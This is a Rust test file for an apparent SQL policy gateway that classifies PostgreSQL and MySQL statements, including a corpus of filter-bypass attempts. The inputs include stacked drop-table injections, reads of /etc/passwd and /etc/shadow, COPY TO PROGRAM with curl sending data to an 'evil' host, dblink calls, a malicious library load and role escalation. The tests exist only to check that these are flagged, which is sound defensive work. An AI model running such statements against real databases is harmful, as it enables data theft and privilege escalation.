//! Analyse stage: facts for a corpus of real statements (pgbench, ORMs, psql, migrations) and a
//! bypass corpus, where the forbidden act hides behind case, comments, quoting, batches, CTEs,
//! wrapping functions or server-side files. Each entry states what a policy author relies on.

use super::*;
use proptest::prelude::*;

const PG: Dialect = Dialect::Postgres;
const MY: Dialect = Dialect::MySql;

fn one(sql: &str, d: Dialect) -> StatementFacts {
    let f = facts(sql, d);
    assert_eq!(f.statements.len(), 1, "{sql}: {f:?}");
    assert!(!f.multi_statement);
    f.statements
        .into_iter()
        .next()
        .unwrap_or_else(|| StatementFacts::new("none", Class::Read))
}

fn pg(sql: &str) -> StatementFacts {
    one(sql, PG)
}

fn strs(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[track_caller]
fn check(f: &StatementFacts, kind: &str, class: Class) {
    assert_eq!((f.kind.as_str(), f.class), (kind, class), "{f:?}");
}

#[test]
fn pgbench_tpcb_like() {
    let f = pg("SELECT abalance FROM pgbench_accounts WHERE aid = $1;");
    check(&f, "select", Class::Read);
    assert_eq!(f.tables, strs(&["pgbench_accounts"]));
    assert_eq!(f.columns, strs(&["abalance", "aid"]));
    assert!(f.has_where && f.parse_error.is_none());

    for (sql, table) in [
        (
            "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;",
            "pgbench_accounts",
        ),
        (
            "UPDATE pgbench_tellers SET tbalance = tbalance + -17 WHERE tid = 4;",
            "pgbench_tellers",
        ),
        (
            "UPDATE pgbench_branches SET bbalance = bbalance + 17 WHERE bid = 1;",
            "pgbench_branches",
        ),
    ] {
        let f = pg(sql);
        check(&f, "update", Class::Write);
        assert_eq!(f.tables, strs(&[table]));
        assert!(f.has_where);
    }

    let f = pg("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 2, 17, CURRENT_TIMESTAMP);");
    check(&f, "insert", Class::Write);
    assert_eq!(f.tables, strs(&["pgbench_history"]));
    assert_eq!(f.columns, strs(&["aid", "bid", "delta", "mtime", "tid"]));

    check(&pg("BEGIN;"), "begin", Class::Transaction);
    check(&pg("END;"), "commit", Class::Transaction);

    // pgbench -i
    let f = pg(
        "drop table if exists pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
    );
    check(&f, "drop_table", Class::Ddl);
    assert_eq!(f.tables.len(), 4);
    check(&pg("create table pgbench_history(tid int,bid int,aid int,delta int,mtime timestamp,filler char(22))"), "create_table", Class::Ddl);
    let f = pg("copy pgbench_accounts from stdin with (freeze on)");
    check(&f, "copy", Class::Write);
    assert_eq!(f.tables, strs(&["pgbench_accounts"]));
    assert!(f.parse_error.is_none());
    // The options retry is for plain COPY only: a WHERE clause or a program keeps it privileged.
    check(
        &pg("copy t from stdin with (freeze on) where pg_read_file('x') > ''"),
        "copy",
        Class::Privileged,
    );
    check(
        &pg("copy t to program 'x' with (freeze on)"),
        "copy",
        Class::Privileged,
    );
    assert_eq!(f.copy_direction.as_deref(), Some("from"));
    check(
        &pg("alter table pgbench_branches add primary key (bid)"),
        "alter_table",
        Class::Ddl,
    );
    check(
        &pg("truncate table pgbench_accounts, pgbench_branches"),
        "truncate",
        Class::Ddl,
    );
}

#[test]
fn orm_statements() {
    // Django
    let f = pg(
        r#"SELECT "auth_user"."id", "auth_user"."username", "blog_post"."title" FROM "blog_post" INNER JOIN "auth_user" ON ("blog_post"."author_id" = "auth_user"."id") WHERE ("blog_post"."published" AND "auth_user"."is_active") ORDER BY "blog_post"."created" DESC LIMIT 21 OFFSET 40"#,
    );
    check(&f, "select", Class::Read);
    assert_eq!(f.tables, strs(&["auth_user", "blog_post"]));
    assert_eq!(
        f.columns,
        strs(&[
            "author_id",
            "created",
            "id",
            "is_active",
            "published",
            "title",
            "username"
        ])
    );
    assert!(f.has_where);

    // ActiveRecord
    let f = pg(r#"SELECT "users".* FROM "users" WHERE "users"."email" = $1 LIMIT $2"#);
    assert_eq!(f.columns, strs(&["*", "email"]));
    let f = pg(r#"INSERT INTO "users" ("email", "created_at") VALUES ($1, $2) RETURNING "id""#);
    check(&f, "insert", Class::Write);
    assert_eq!(f.columns, strs(&["created_at", "email", "id"]));

    // Quoted identifiers keep their case, unquoted fold, schema kept as written.
    let f = pg(
        r#"SELECT "Orders"."Total", o.id FROM "Orders" JOIN Public.Customers o ON o.id = "Orders"."CustomerId""#,
    );
    assert_eq!(f.tables, strs(&["Orders", "public.customers"]));
    assert_eq!(f.columns, strs(&["CustomerId", "Total", "id"]));
}

#[test]
fn psql_catalog_queries() {
    // \d customers, first query
    let f = pg("SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(customers)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3;");
    check(&f, "select", Class::Read);
    assert_eq!(
        f.tables,
        strs(&["pg_catalog.pg_class", "pg_catalog.pg_namespace"])
    );
    assert_eq!(f.functions, strs(&["pg_catalog.pg_table_is_visible"]));
    assert_eq!(
        f.columns,
        strs(&["nspname", "oid", "relname", "relnamespace"])
    );

    // \d customers, column query
    let f = pg("SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) FROM pg_catalog.pg_attrdef d WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef), a.attnotnull, (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation, a.attidentity, a.attgenerated FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum;");
    check(&f, "select", Class::Read);
    assert_eq!(
        f.tables,
        strs(&[
            "pg_catalog.pg_attrdef",
            "pg_catalog.pg_attribute",
            "pg_catalog.pg_collation",
            "pg_catalog.pg_type"
        ])
    );
    assert_eq!(
        f.functions,
        strs(&["pg_catalog.format_type", "pg_catalog.pg_get_expr"])
    );

    // \dt
    let f = pg("SELECT n.nspname as \"Schema\", c.relname as \"Name\", CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' END as \"Type\", pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' AND n.nspname <> 'information_schema' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;");
    check(&f, "select", Class::Read);
    assert_eq!(
        f.tables,
        strs(&[
            "pg_catalog.pg_am",
            "pg_catalog.pg_class",
            "pg_catalog.pg_namespace"
        ])
    );
}

#[test]
fn migrations() {
    let f = pg("CREATE TABLE customers (id bigserial PRIMARY KEY, email text NOT NULL UNIQUE, created_at timestamptz DEFAULT now())");
    check(&f, "create_table", Class::Ddl);
    assert_eq!(f.tables, strs(&["customers"]));
    assert_eq!(f.columns, strs(&["created_at", "email", "id"]));

    let f = pg("ALTER TABLE customers ADD COLUMN phone text");
    check(&f, "alter_table", Class::Ddl);
    assert_eq!(f.columns, strs(&["phone"]));

    let f = pg("CREATE INDEX CONCURRENTLY customers_email_idx ON customers (email)");
    check(&f, "create_index", Class::Ddl);
    assert_eq!(
        (f.tables, f.columns),
        (strs(&["customers"]), strs(&["email"]))
    );

    let f = pg(
        "CREATE UNIQUE INDEX customers_lower_email ON public.customers USING btree (lower(email))",
    );
    check(&f, "create_index", Class::Ddl);
    assert_eq!(f.tables, strs(&["public.customers"]));

    check(
        &pg("create function add(a int, b int) returns int language sql as $$ select a + b $$"),
        "create_function",
        Class::Ddl,
    );
    check(&pg("create role reporting"), "create_role", Class::Dcl);
    check(&pg("alter role bob superuser"), "alter_role", Class::Dcl);
    check(
        &pg("grant select on customers to reporting"),
        "grant",
        Class::Dcl,
    );
    check(
        &pg("revoke all on customers from public"),
        "revoke",
        Class::Dcl,
    );
}

#[test]
fn session_and_transaction_statements() {
    check(&pg("SET search_path = public, app"), "set", Class::Session);
    check(&pg("set application_name to 'psql'"), "set", Class::Session);
    check(&pg("SHOW work_mem"), "show", Class::Session);
    check(&pg("RESET ALL"), "reset", Class::Session);
    check(&pg("RESET work_mem"), "reset", Class::Session);
    check(&pg("RESET ROLE"), "reset", Class::Privileged);
    check(
        &pg("RESET SESSION AUTHORIZATION"),
        "reset",
        Class::Privileged,
    );
    check(&pg("LISTEN jobs"), "listen", Class::Session);
    check(&pg("NOTIFY jobs, 'x'"), "notify", Class::Session);
    check(&pg("DISCARD ALL"), "discard", Class::Session);
    check(&pg("SAVEPOINT s1"), "savepoint", Class::Transaction);
    check(
        &pg("ROLLBACK TO SAVEPOINT s1"),
        "rollback",
        Class::Transaction,
    );
    check(&pg("COMMIT"), "commit", Class::Transaction);
    check(&pg("DEALLOCATE p"), "deallocate", Class::Session);
    check(
        &pg("EXPLAIN SELECT * FROM customers"),
        "explain",
        Class::Read,
    );
}

/// Each bypass must come out as at least as restrictive as the act it hides.
#[test]
fn bypass_case_comments_quoting_whitespace() {
    for sql in [
        "SeLeCt 1; DrOp TaBlE customers",
        "select 1 /* ; */ ; /* x */ drop /* y */ table customers -- z",
        "select 1;drop table\"customers\"",
        "select 1;\n\tDROP\n\tTABLE\n\tcustomers\n",
        "select 1; drop table U&\"\\0063ustomers\"",
        "select 1; drop table public . customers",
    ] {
        let f = facts(sql, PG);
        assert!(f.multi_statement, "{sql}");
        assert_eq!(f.statements.len(), 2, "{sql}");
        check(&f.statements[1], "drop_table", Class::Ddl);
        assert!(
            f.statements[1]
                .tables
                .iter()
                .any(|t| t.ends_with("customers")),
            "{sql}: {f:?}"
        );
        assert_eq!(f.class(), Class::Ddl);
    }
    // A comment cannot end a standard string early, and an E'' string hides only what PostgreSQL
    // also reads as string.
    assert_eq!(
        pg("select 'a\\' , (select email from customers) --'").tables,
        strs(&["customers"])
    );
    assert!(pg("select e'a\\' , (select email from customers) --'")
        .tables
        .is_empty());
    // A quoted identifier with a `U&` escape is the table it spells.
    assert_eq!(
        pg("select * from U&\"\\0063ustomers\"").tables,
        strs(&["customers"])
    );
    // UESCAPE is not decoded: unparsed, so privileged rather than wrong.
    check(
        &pg("select * from U&\"!0063ustomers\" UESCAPE '!'"),
        "select",
        Class::Privileged,
    );
}

#[test]
fn bypass_ctes() {
    let f = pg("with d as (delete from customers returning *) select * from d");
    check(&f, "select", Class::Write);
    assert!(f.data_modifying_cte);
    assert_eq!(f.tables, strs(&["customers"]));

    let f = pg("select * from (select * from (with d as (update customers set email = null returning *) select * from d) x) y");
    check(&f, "select", Class::Write);
    assert!(f.data_modifying_cte);

    let f = pg("with x as (select 1) insert into audit select * from x");
    check(&f, "insert", Class::Write);
    assert!(!f.data_modifying_cte);
    assert_eq!(f.tables, strs(&["audit"]));

    // A CTE shadows a table only where it is visible.
    assert!(
        pg("with customers as (select 1 as id) select * from customers")
            .tables
            .is_empty()
    );
    assert_eq!(
        pg("with customers as (select * from customers) select * from customers").tables,
        strs(&["customers"])
    );
    assert_eq!(
        pg("select * from (with s as (select 1) select * from s) q, s").tables,
        strs(&["s"])
    );
    assert_eq!(
        pg("with recursive r as (select 1 union all select * from r) select * from r, customers")
            .tables,
        strs(&["customers"])
    );
}

#[test]
fn bypass_wrapping_functions() {
    for sql in [
        "select pg_read_file('/etc/passwd')",
        "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')",
        "select \"pg_read_file\"('/etc/passwd')",
        "select * from lo_import('/etc/passwd')",
        "select length(pg_read_binary_file('/etc/shadow'))",
        "with x as (select pg_ls_dir('/')) select * from x",
        "select * from customers where id in (select lo_export(1, '/tmp/x'))",
        "select coalesce(null, pg_stat_file('/'))::text",
        "select dblink_exec('host=evil', 'drop table customers')",
        "select * from dblink('host=evil', 'select 1') as t(x int)",
        "select set_config('role', 'postgres', false)",
        "select query_to_xml('select * from secrets', true, true, '')",
        "select pg_file_write('/tmp/x', 'y', false)",
        "explain analyze select pg_read_file('/etc/passwd')",
    ] {
        assert_eq!(pg(sql).class, Class::Privileged, "{sql}");
    }
    let f = pg("select * from lo_import('/etc/passwd')");
    assert_eq!((f.tables, f.functions), (vec![], strs(&["lo_import"])));
    check(
        &pg("select nextval('orders_id_seq')"),
        "select",
        Class::Write,
    );
}

#[test]
fn bypass_server_side_execution_and_files() {
    check(
        &pg("EXECUTE fetch_customers(1)"),
        "execute",
        Class::Privileged,
    );
    let f = facts("PREPARE p AS DELETE FROM customers; EXECUTE p", PG);
    check(&f.statements[0], "prepare", Class::Write);
    check(&f.statements[1], "execute", Class::Privileged);

    let f = pg("COPY customers TO PROGRAM 'curl -d @- https://evil'");
    check(&f, "copy", Class::Privileged);
    assert!(f.copy_program);
    assert_eq!(f.copy_direction.as_deref(), Some("to"));

    let f = pg("copy customers to '/tmp/x'");
    check(&f, "copy", Class::Privileged);
    assert!(!f.copy_program);
    check(
        &pg("copy customers from '/etc/passwd'"),
        "copy",
        Class::Privileged,
    );
    check(
        &pg("COPY (select * from customers) TO STDOUT"),
        "copy",
        Class::Read,
    );
    let f = pg("copy customers to stdout");
    check(&f, "copy", Class::Read);
    assert_eq!(f.columns, strs(&["*"]));

    for (sql, kind) in [
        ("DO $$ begin execute 'drop table x'; end $$", "do"),
        (
            "do language plpgsql $body$ begin perform 1; end $body$",
            "do",
        ),
        ("CALL cleanup(30)", "call"),
        (
            "ALTER SYSTEM SET archive_command = 'curl evil'",
            "alter_system",
        ),
        ("LOAD '/tmp/evil.so'", "load"),
        ("SET ROLE postgres", "set_role"),
        ("set local role admin", "set_role"),
        ("set role = 'admin'", "set_role"),
        (
            "SET SESSION AUTHORIZATION postgres",
            "set_session_authorization",
        ),
        ("set standard_conforming_strings = off", "set"),
        ("set client_encoding to 'SJIS'", "set"),
        ("create extension dblink", "create_extension"),
        (
            "create function f() returns void language plpython3u as $$import os$$",
            "create_function",
        ),
        ("selec * from customers", "unknown"),
    ] {
        check(&pg(sql), kind, Class::Privileged);
    }
    assert!(pg("DO $$ begin end $$").parse_error.is_some());
    check(&pg("set client_encoding to utf8"), "set", Class::Session);
    let f = pg("vacuum full customers");
    check(&f, "vacuum", Class::Ddl);
    assert_eq!(f.tables, strs(&["customers"]));
    check(
        &pg("vacuum (verbose, analyze) customers"),
        "vacuum",
        Class::Privileged,
    );
}

#[test]
fn bypass_write_hidden_in_a_read() {
    check(
        &pg("explain analyze delete from customers"),
        "explain",
        Class::Write,
    );
    check(&pg("explain delete from customers"), "explain", Class::Read);
    check(
        &pg("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM customers"),
        "explain",
        Class::Write,
    );
    check(
        &pg("explain (format json, analyze true) delete from customers"),
        "explain",
        Class::Write,
    );
    check(
        &pg("explain (costs off) delete from customers"),
        "explain",
        Class::Read,
    );
    let f = pg("select * from customers for update");
    check(&f, "select", Class::Write);
    assert!(f.for_update);
    let f = pg("select * into backup from customers");
    check(&f, "select", Class::Write);
    assert!(f.select_into);
    assert_eq!(f.tables, strs(&["backup", "customers"]));
    // A whole-row reference exposes every column.
    assert!(pg("select to_jsonb(c) from customers c")
        .columns
        .contains(&"*".to_string()));
    assert!(pg("select row_to_json(customers.*) from customers")
        .columns
        .contains(&"*".to_string()));
    // `TABLE name` reads the whole table.
    // (sqlparser does not take it as a whole statement: privileged by the fallback.)
    check(&pg("TABLE secrets"), "select", Class::Privileged);
    let f = pg("select 1 union table secrets");
    assert_eq!((f.tables, f.columns), (strs(&["secrets"]), strs(&["*"])));
    assert_eq!(
        pg("select 1 union table public.secrets").tables,
        strs(&["public.secrets"])
    );
    assert!(pg("with s as (select 1) table s").tables.is_empty());
    // A union is filtered only if every branch is.
    assert!(!pg("select a from t where a = 1 union select a from secrets").has_where);
}

#[test]
fn batches_take_the_most_restrictive_class() {
    let f = facts("begin; delete from customers; commit", PG);
    let classes: Vec<_> = f.statements.iter().map(|s| s.class).collect();
    assert_eq!(
        classes,
        vec![Class::Transaction, Class::Write, Class::Transaction]
    );
    assert_eq!(f.class(), Class::Write);
    // One unparseable statement does not hide the others.
    let f = facts("select 1; DO $$ begin end $$; drop table t", PG);
    let kinds: Vec<_> = f.statements.iter().map(|s| s.kind.as_str()).collect();
    assert_eq!(kinds, ["select", "do", "drop_table"]);
    assert!(f.parse_error.is_some());
    assert_eq!(f.class(), Class::Privileged);
    // `;` inside parentheses does not split.
    let f = facts(
        "create rule r as on insert to t do also (delete from a; delete from b)",
        PG,
    );
    assert!(!f.multi_statement);
    // Only comments: nothing to decide.
    assert!(facts("-- nothing\n/* here */ ;", PG).statements.is_empty());
    assert!(class_rank(Class::Read) < class_rank(Class::Session));
    assert!(class_rank(Class::Write) < class_rank(Class::Ddl));
    assert!(class_rank(Class::Dcl) < class_rank(Class::Privileged));
}

#[test]
fn parse_errors_carry_no_literal_values() {
    let f = pg("select 'hunter2' 'x' from from");
    assert_eq!(f.class, Class::Privileged);
    let e = f.parse_error.unwrap_or_default();
    assert!(!e.is_empty() && !e.contains("hunter2"), "{e}");
    let e = pg("select 31337 31337 from from")
        .parse_error
        .unwrap_or_default();
    assert!(!e.contains("31337"), "{e}");
}

#[test]
fn serialises_as_the_policy_contract_says() {
    let f = facts("select * from customers where id = 1", PG);
    let v = serde_json::to_value(&f).unwrap_or_default();
    assert_eq!(v["statements"][0]["kind"], "select");
    assert_eq!(v["statements"][0]["class"], "read");
    assert_eq!(v["statements"][0]["tables"][0], "customers");
    assert_eq!(v["statements"][0]["has_where"], true);
    assert_eq!(v["multi_statement"], false);
    assert_eq!(
        serde_json::to_value(Class::Privileged).unwrap_or_default(),
        "privileged"
    );
}

#[test]
fn mysql_statements() {
    let f = one(
        "SELECT `id`, `Email` FROM `Customers` WHERE id = 1 # trailing",
        MY,
    );
    check(&f, "select", Class::Read);
    assert_eq!(
        (f.tables, f.columns),
        (strs(&["Customers"]), strs(&["Email", "id"]))
    );

    let f = facts("select 1 /*!50000 ; drop table customers */", MY);
    assert!(f.multi_statement);
    check(&f.statements[1], "drop_table", Class::Ddl);

    // `--1` is arithmetic in MySQL: the subquery after it is code, and facts see it.
    let f = one("select a --1, (select password from users)\n from t", MY);
    assert_eq!(f.tables, strs(&["t", "users"]));
    let f = one("DELETE FROM customers -- \n WHERE id = 1", MY);
    check(&f, "delete", Class::Write);
    assert!(f.has_where);
    let f = one("delete from customers /* no where */", MY);
    assert!(!f.has_where);

    check(
        &one("select * from customers into outfile '/tmp/x'", MY),
        "select",
        Class::Privileged,
    );
    check(
        &one("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", MY),
        "load_data",
        Class::Privileged,
    );
    check(
        &one("select load_file('/etc/passwd')", MY),
        "select",
        Class::Privileged,
    );
    check(&one("set names utf8mb4", MY), "set", Class::Session);
    check(&one("set names 'sjis'", MY), "set", Class::Privileged);
    check(
        &one("set global general_log = 1", MY),
        "set",
        Class::Privileged,
    );
    check(
        &one("set @@session.sql_mode = 'ANSI_QUOTES'", MY),
        "set",
        Class::Privileged,
    );
    check(&one("show tables", MY), "show", Class::Session);
    check(&one("use shop", MY), "use", Class::Session);
    // Double quotes are strings in MySQL but sqlparser (and ANSI_QUOTES) read a table there,
    // whose name the fingerprint has replaced by `?`: privileged, not judged on one spelling.
    check(
        &one("select * from \"customers\"", MY),
        "select",
        Class::Privileged,
    );
    // In a value position it is a string, as MySQL reads it under the default sql_mode (the
    // gateway assumes no ANSI_QUOTES; SET sql_mode is privileged).
    let f = one("select \"password\" from users", MY);
    check(&f, "select", Class::Read);
    assert!(f.columns.is_empty());
    check(
        &one("select count(*) as \"total\" from users", MY),
        "select",
        Class::Read,
    );
}

/// Statements of every corpus above; `(sql, mysql)`.
const CORPUS: &[(&str, bool)] = &[
    ("SELECT abalance FROM pgbench_accounts WHERE aid = 12345;", false),
    ("UPDATE pgbench_tellers SET tbalance = tbalance + -17 WHERE tid = 4;", false),
    ("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 2, 17, CURRENT_TIMESTAMP);", false),
    (r#"SELECT "auth_user"."id", "blog_post"."title" FROM "blog_post" INNER JOIN "auth_user" ON ("blog_post"."author_id" = "auth_user"."id") WHERE "auth_user"."id" IN (1, 2, 3) ORDER BY "blog_post"."created" DESC LIMIT 21 OFFSET 40"#, false),
    ("SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(customers)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3;", false),
    ("CREATE TABLE customers (id bigserial PRIMARY KEY, email varchar(200) NOT NULL, note text DEFAULT 'none')", false),
    ("with d as (delete from customers where id = 5 returning *) select * from d", false),
    ("select * from lo_import('/etc/passwd')", false),
    ("select 1; drop table customers", false),
    ("copy customers to '/tmp/x'", false),
    ("DO $$ begin execute 'drop table x'; end $$", false),
    ("set role = 'admin'", false),
    ("select to_jsonb(c) from customers c where c.id in (1, 2) for update", false),
    ("SELECT `id`, `Email` FROM `Customers` WHERE id = 1 AND name = 'x' # trailing", true),
    ("select a --1, (select password from users where id = 3)\n from t", true),
    ("select 1 /*!50000 ; drop table customers */", true),
];

fn comparable(mut f: Facts) -> Facts {
    // Error texts quote the (re-cased) token found; whether there was one is the fact.
    f.parse_error = f.parse_error.map(|_| String::new());
    for s in &mut f.statements {
        s.parse_error = s.parse_error.as_ref().map(|_| String::new());
    }
    f
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// The decision cache's assumption: statements with one fingerprint have the same facts.
    #[test]
    fn one_fingerprint_one_set_of_facts(
        which in 0..CORPUS.len(),
        seps in proptest::collection::vec(0usize..7, 1..16),
        cases in proptest::collection::vec(any::<bool>(), 1..16),
        lits in proptest::collection::vec(0usize..12, 1..8),
    ) {
        let (sql, mysql) = CORPUS[which];
        let d = if mysql { MY } else { PG };
        let other = crate::sql::lex::respell(sql, d, &seps, &cases, &lits);
        prop_assert_eq!(
            crate::sql::fingerprint_hash(sql, d),
            crate::sql::fingerprint_hash(&other, d),
            "{}", other
        );
        prop_assert_eq!(comparable(facts(sql, d)), comparable(facts(&other, d)), "{}", other);
    }

    /// No input makes `facts` panic, and an unparseable statement is never below privileged.
    #[test]
    fn facts_never_panic_and_fail_closed(
        sql in "([-'\"$/*#`\\\\eEuU&0-9a-z;(),.:!=<>? \n]|select|drop|table|\\PC){0,48}",
        mysql in any::<bool>(),
    ) {
        let f = facts(&sql, if mysql { MY } else { PG });
        for s in &f.statements {
            if s.parse_error.is_some() {
                prop_assert_eq!(s.class, Class::Privileged);
            }
        }
        prop_assert_eq!(f.multi_statement, f.statements.len() > 1);
    }
}
